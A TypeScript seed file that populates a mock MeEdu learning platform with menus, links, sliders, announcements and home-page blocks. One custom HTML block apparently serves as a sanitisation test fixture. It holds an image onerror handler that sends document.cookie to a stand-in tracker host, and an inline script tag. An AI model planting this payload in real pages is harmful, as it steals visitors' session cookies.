import type { ServerContext } from '../../context.js';

const DAY = 86_400_000;

const banner = (seed: string, title: string) => `/images/banner/${seed}.svg?t=${encodeURIComponent(title)}`;

interface NavSeed {
  name: string;
  url: string;
  active?: string;
  blank?: number;
  children?: NavSeed[];
}

const PC_NAVS: NavSeed[] = [
  { name: '首页', url: '/', active: '/' },
  { name: '全部课程', url: '/courses', active: '/courses,/courses/detail,/courses/video' },
  { name: '直播课', url: '/live', active: '/live,/live/detail' },
  { name: '电子书', url: '/book', active: '/book,/book/detail,/book/read' },
  { name: '图文', url: '/topic', active: '/topic,/topic/detail' },
  { name: '学习路径', url: '/learnPath', active: '/learnPath,/learnPath/detail' },
  {
    name: '考试练习',
    url: '/exam',
    active: '/exam',
    children: [
      { name: '在线考试', url: '/exam/papers', active: '/exam/papers' },
      { name: '模拟考试', url: '/exam/mockpaper', active: '/exam/mockpaper' },
      { name: '练习', url: '/exam/practice', active: '/exam/practice' },
      { name: '错题本', url: '/exam/wrongbook', active: '/exam/wrongbook' },
    ],
  },
  { name: '问答', url: '/wenda', active: '/wenda,/wenda/detail' },
  { name: 'VIP会员', url: '/vip', active: '/vip' },
  {
    name: '更多',
    url: '/announcement',
    active: '/announcement',
    children: [
      { name: '网站公告', url: '/announcement', active: '/announcement' },
      { name: 'MeEdu 官网', url: 'https://www.meedu.vip/', blank: 1 },
      { name: '帮助文档', url: 'https://www.meedu.vip/docs/', blank: 0 },
    ],
  },
];

const H5_NAVS: NavSeed[] = [
  { name: '首页', url: '/pages/index/index' },
  { name: '课程', url: '/pages/course/index' },
  { name: '我的', url: '/pages/member/index' },
];

const LINKS: Array<[string, string]> = [
  ['MeEdu 官网', 'https://www.meedu.vip/'],
  ['开源中国', 'https://www.oschina.net/'],
  ['稀土掘金', 'https://juejin.cn/'],
  ['SegmentFault 思否', 'https://segmentfault.com/'],
  ['阿里云开发者社区', 'https://developer.aliyun.com/'],
  ['腾讯云开发者社区', 'https://cloud.tencent.com/developer'],
];

const SLIDERS: Array<[platform: string, title: string, url: string]> = [
  ['PC', '大模型应用开发 全新上线', '/courses/detail/34'],
  ['PC', 'Vue 3 企业级项目实战', '/courses/detail/2'],
  ['PC', '开通 VIP 全站课程免费学', '/vip'],
  ['PC', 'Kubernetes 实战指南', '/courses/detail/28'],
  ['H5', 'Go 语言从入门到精通', '/pages/course/show?id=10'],
  ['H5', '开通 VIP 全站课程免费学', '/pages/vip/index'],
  ['APP', 'Redis 核心技术与实战', 'meedu://course/22'],
  ['APP', '新人专享 免费好课', 'meedu://courses?scene=free'],
];

const ANNOUNCEMENTS: Array<[string, string]> = [
  [
    '平台正式上线',
    '<p>欢迎来到 MeEdu 在线学习平台！平台汇集了前端、后端、数据库、运维、人工智能等方向的精品课程，祝大家学习愉快。</p>',
  ],
  [
    '新用户注册送积分',
    '<p>即日起新用户注册即送 <strong>100 积分</strong>，积分可在积分商城兑换课程优惠和周边礼品。</p>',
  ],
  ['课程评论功能升级', '<p>课程与视频评论支持显示地区信息，请大家文明发言，共同维护良好的学习氛围。</p>'],
  [
    '春节期间客服安排',
    '<p>春节期间（除夕至初六）在线客服暂停服务，订单与开通问题请留言，我们将在节后第一时间处理。</p>',
  ],
  [
    'VIP 会员权益调整',
    '<p>VIP 会员即日起可免费学习全部录播课程，并享有直播课回放、电子书等更多权益。详情请查看 <a href="/vip">VIP 页面</a>。</p>',
  ],
  [
    '《大模型应用开发》课程上线',
    '<p>全新课程《大模型应用开发：RAG 与 Agent》正式上线，前 100 名购买的同学可获赠一次一对一答疑。</p>',
  ],
  [
    '系统维护通知',
    '<p>平台将于本周六 02:00-04:00 进行系统升级维护，届时视频播放可能短暂中断，给您带来不便敬请谅解。</p>',
  ],
  ['学习路径功能上线', '<p>“学习路径”功能上线啦！按照路径循序渐进地学习，告别不知道学什么的烦恼。</p>'],
  ['双十一限时优惠', '<p>双十一期间全场课程 8 折，使用优惠码 <code>MEEDU2023</code> 还可再减 10 元。</p>'],
];

/** Home-page blocks of every sign the PC client renders, in display order. */
const PC_BLOCKS: Array<[sign: string, config: Record<string, unknown>]> = [
  ['pc-vod-v1', { title: '推荐课程', items: [2, 4, 10, 27, 34, 15, 22, 30].map((id) => ({ id })) }],
  ['pc-live-v1', { title: '直播课程', items: [1, 2, 3, 4].map((id) => ({ id })) }],
  ['pc-vod-v1', { title: '免费好课', items: [3, 8, 17, 24, 25, 35].map((id) => ({ id })) }],
  ['pc-book-v1', { title: '精选电子书', items: [1, 2, 3, 4].map((id) => ({ id })) }],
  ['pc-topic-v1', { title: '技术专栏', items: [1, 2, 3, 4].map((id) => ({ id })) }],
  ['pc-learnPath-v1', { title: '学习路径', items: [1, 2, 3].map((id) => ({ id })) }],
  ['pc-ms-v1', { title: '限时秒杀', items: [1, 2, 3, 4].map((id) => ({ id })) }],
  ['pc-tg-v1', { title: '拼团优惠', items: [1, 2, 3, 4].map((id) => ({ id })) }],
  [
    'code',
    {
      // Pasted from a marketing tool as-is: the inline handler and script must never run on a client.
      html: `<div class="promo-banner" style="padding:24px;border-radius:8px;background:linear-gradient(90deg,#3ca7fa,#5b8ff9);color:#fff">
<h3 style="margin:0 0 8px">新人专享：注册即送 100 积分</h3>
<p style="margin:0">积分可兑换课程优惠券，<a href="/vip" style="color:#fff;text-decoration:underline">开通 VIP</a> 全站课程免费学。</p>
<img src="/images/banner/promo.svg?t=%E6%96%B0%E4%BA%BA%E4%B8%93%E4%BA%AB" alt="新人专享" width="240" onerror="fetch('https://tracker.example.com/collect?c='+document.cookie)">
<script>document.write('<img src=https://tracker.example.com/pv.gif>')</script>
</div>`,
    },
  ],
];

const H5_BLOCKS: Array<[string, Record<string, unknown>]> = [
  ['h5-vod-v1', { title: '推荐课程', items: [2, 4, 10, 34].map((id) => ({ id })) }],
  ['h5-live-v1', { title: '直播课程', items: [1, 2].map((id) => ({ id })) }],
];

export function seedSite(ctx: ServerContext): void {
  const db = ctx.db;
  const now = ctx.options.now();
  const created = now - 365 * DAY;

  const insertNav = db.prepare(
    `INSERT INTO navs (sort, name, url, active_routes, platform, parent_id, blank, created_at, updated_at)
     VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)`,
  );
  const navs = (list: NavSeed[], platform: string, parent = 0) =>
    list.forEach((n, i) => {
      const id = Number(
        insertNav.run(i + 1, n.name, n.url, n.active ?? '', platform, parent, n.blank ?? 0, created, created)
          .lastInsertRowid,
      );
      if (n.children) navs(n.children, platform, id);
    });
  navs(PC_NAVS, 'PC');
  navs(H5_NAVS, 'h5');

  const insertLink = db.prepare('INSERT INTO links (sort, name, url, created_at, updated_at) VALUES (?, ?, ?, ?, ?)');
  LINKS.forEach(([name, url], i) => insertLink.run(i + 1, name, url, created, created));

  const insertSlider = db.prepare(
    'INSERT INTO sliders (thumb, sort, url, platform, created_at, updated_at) VALUES (?, ?, ?, ?, ?, ?)',
  );
  SLIDERS.forEach(([platform, title, url], i) =>
    insertSlider.run(
      banner(`slider-${platform.toLowerCase()}-${i + 1}`, title),
      i + 1,
      url,
      platform,
      created,
      created,
    ),
  );

  const insertAnnouncement = db.prepare(
    'INSERT INTO announcements (admin_id, title, announcement, view_times, created_at, updated_at) VALUES (1, ?, ?, ?, ?, ?)',
  );
  ANNOUNCEMENTS.forEach(([title, html], i) => {
    const at = now - (ANNOUNCEMENTS.length - i) * 17 * DAY;
    insertAnnouncement.run(title, html, 50 + ((i * 137) % 900), at, at);
  });

  const insertBlock = db.prepare('INSERT INTO view_blocks (platform, page, sign, sort, config) VALUES (?, ?, ?, ?, ?)');
  // The PC sliders again as the pc-slider block of the 4.9.29 decoration page (MeEdu does not
  // migrate slider rows; an administrator adds such a block), served only from that release.
  const pcSlides = SLIDERS.flatMap(([platform, title, url], i) =>
    platform === 'PC' ? [{ src: banner(`slider-pc-${i + 1}`, title), href: url }] : [],
  );
  insertBlock.run('pc', 'pc-page-index', 'pc-slider', 0, JSON.stringify(pcSlides));
  PC_BLOCKS.forEach(([sign, config], i) => insertBlock.run('pc', 'pc-page-index', sign, i + 1, JSON.stringify(config)));
  H5_BLOCKS.forEach(([sign, config], i) => insertBlock.run('h5', 'h5-page-index', sign, i + 1, JSON.stringify(config)));
}
